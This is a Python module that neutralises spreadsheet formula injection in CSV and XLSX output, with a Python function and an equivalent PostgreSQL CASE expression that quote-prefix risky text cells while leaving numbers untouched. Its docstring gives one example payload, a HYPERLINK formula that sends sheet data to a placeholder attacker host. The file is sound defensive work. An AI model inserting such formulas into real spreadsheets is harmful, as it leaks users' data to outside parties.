"""Cells of every CSV and XLSX the project writes, made safe to open in a spreadsheet.

A text cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is read by
Excel and LibreOffice as a formula: `=HYPERLINK("http://evil.example/?x="&A1,"open")` in
a report's narrative would send the sheet's data away when clicked. OWASP's rule: such a
cell is written with a single quote in front, which spreadsheets show as text. Numbers
stay numbers: a number (int, float, Decimal) is never touched, and neither is text that
is a plain number (`-6.7`, `+5`, `1e-3`), which a spreadsheet reads as a number, not a
formula. `safe_cell` is the rule in Python; `safe_cell_sql` the same rule for a text
column written by the database itself (PostgreSQL's COPY).
"""

import re
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = r"[+-]?([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)?"
_PLAIN_NUMBER_RE = re.compile(_PLAIN_NUMBER)


def safe_cell(value: Any) -> Any:
    """`value`, or, for text a spreadsheet would run as a formula, the text behind a quote."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER_RE.fullmatch(value):
        return "'" + value
    return value


def safe_cell_sql(column: str) -> str:
    """The SQL (PostgreSQL) of `safe_cell` for a text column or expression `column` (SQL
    written by the caller, never a user's input)."""
    starts = ", ".join("E'\\t'" if c == "\t" else "E'\\r'" if c == "\r" else f"'{c}'" for c in FORMULA_STARTS)
    # Nested, so the pattern is matched only on the rare cell that starts like a formula.
    return (
        f"CASE WHEN left({column}, 1) IN ({starts}) THEN "
        f"CASE WHEN {column} ~ '^{_PLAIN_NUMBER}$' THEN {column} ELSE '''' || {column} END "
        f"ELSE {column} END"
    )
